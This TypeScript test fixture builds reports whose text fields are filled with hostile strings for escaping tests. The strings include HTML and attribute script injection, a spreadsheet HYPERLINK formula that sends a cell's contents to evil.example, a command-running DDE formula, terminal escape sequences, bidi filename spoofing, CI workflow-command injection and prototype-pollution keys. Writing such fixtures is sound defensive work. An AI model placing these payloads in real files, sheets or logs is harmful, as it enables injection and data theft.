/** Names that do harm where they are not made harmless, and reports full of them. */
import type { Report } from '../../src/model/report.js';
import { everything } from '../reports/formats/cases.js';

export const LONG = 10_000;

/** By what they attack. */
export const HOSTILE: Readonly<Record<string, string>> = {
  html: `</script><img src=x onerror="window.pwned=1"><script>window.pwned=1</script><a href="javascript:window.pwned=1">x</a>`,
  attribute: `" onmouseover="window.pwned=1" x='`,
  formula: `=HYPERLINK("http://evil.example/?"&A1,"klikk")`,
  plus: '+1+cmd|x!A1',
  minus: '-2+3',
  at: '@SUM(1)',
  tab: '\t=1+1',
  return: '\r\n=1+1',
  fullWidth: '＝1+1',
  ansi: '\u001b[31mred\u001b]0;pwned\u0007\u009b2J',
  bidi: 'abc\u202Etxt.exe\u2066\u200f\u061c',
  control: 'a\u0000b\ud800c\udc00d\uFFFEe\uFFFF\u2028\u0085',
  markdown:
    '[klikk](http://evil.example) ![x](http://evil.example/p.png) `a` ``b`` | @everyone #1 !2 ~3 <b>x</b> www.evil.example\n# stor\n- punkt',
  backtick: '`',
  workflow: 'x\n::error file=a,line=1::pwned\r\n::add-mask::y',
  command: '::set-output name=x::y',
  xml: ']]><x a="1"/>&amp;&#0;<!-- --><![CDATA[',
  metric: 'a"} 1\nevil_metric{b="\\',
  object: '__proto__',
  method: 'constructor',
  long: 'n'.repeat(LONG),
};

// What the model fixes, and what tells things apart: everything else in a report may be any text at all.
const FIXED =
  /^(?:code|kind|severity|state|method|endedBy|readOnly|confidence|status|mode|schemaVersion|verdict|basis|changed|sound|uri|law)$/;
const TIMES = /^(?:startedAt|finishedAt|decidedAt|until)$/;

function poison(value: unknown, name: string, key = ''): unknown {
  if (typeof value === 'string') {
    if (FIXED.test(key) || TIMES.test(key)) return value;
    return name.length >= LONG ? value + name : name + value;
  }
  if (Array.isArray(value)) return value.map((item) => poison(item, name, key));
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, poison(v, name, k)]));
}

/** A report in which every name, label, id and person's word starts (or ends, where it is long) with this. */
export const poisoned = (name: string): Report => poison(everything(), name) as Report;
